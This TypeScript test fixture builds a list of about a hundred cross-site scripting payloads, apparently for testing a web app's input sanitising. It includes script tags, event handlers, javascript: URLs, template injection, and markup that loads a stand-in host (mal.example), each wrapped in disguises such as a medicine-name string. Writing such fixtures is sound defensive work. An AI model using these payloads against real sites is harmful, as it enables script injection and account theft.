/**
 * A hundred texts that become code where a page makes markup, an address, a style or a script of what it was told. Each that
 * runs sets `window.pwned` or opens a dialog.
 */
const RUN = 'window.pwned=1';

const VECTORS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned=1"></iframe>`,
  `<a href="javascript:${RUN}">clique</a>`,
  `<a href="data:text/html,<script>opener.pwned=1</script>">clique</a>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><input type=submit autofocus onfocus=${RUN}></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<math><mtext></table><img src=x onerror=${RUN}>`,
  `<style>@import 'javascript:${RUN}';</style>`,
  `<style>*{background:url(//mal.example/x)}</style>`,
  `<link rel=stylesheet href=//mal.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//mal.example/>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<div style="background:url(javascript:${RUN})">`,
  `<div onpointerover=${RUN} style=position:fixed;inset:0>`,
  `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>`,
  `<dialog open onclose=${RUN}><button autofocus onfocus=${RUN}>`,
  `<button popovertarget=x onbeforetoggle=${RUN}>`,
];

/** How the same is hidden, or how it leaves the place it stands in. */
const DISGUISES: ((vector: string) => string)[] = [
  (vector) => `dipirona ${vector} 500 mg`,
  (vector) => `"'>${vector}<!--`,
  (vector) => vector.replace(/^<(\w)/u, (_, first: string) => `<\u0000${first}`).toUpperCase(),
];

const OTHERS = [
  `javascript:${RUN}//`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `';${RUN};'`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `]]><script>${RUN}</script>`,
  `\u202e<script>${RUN}</script>\u2066`,
];

export const HOSTILE_TEXTS: readonly string[] = [
  ...DISGUISES.flatMap((disguise) => VECTORS.map(disguise)),
  ...OTHERS,
].slice(0, 104);
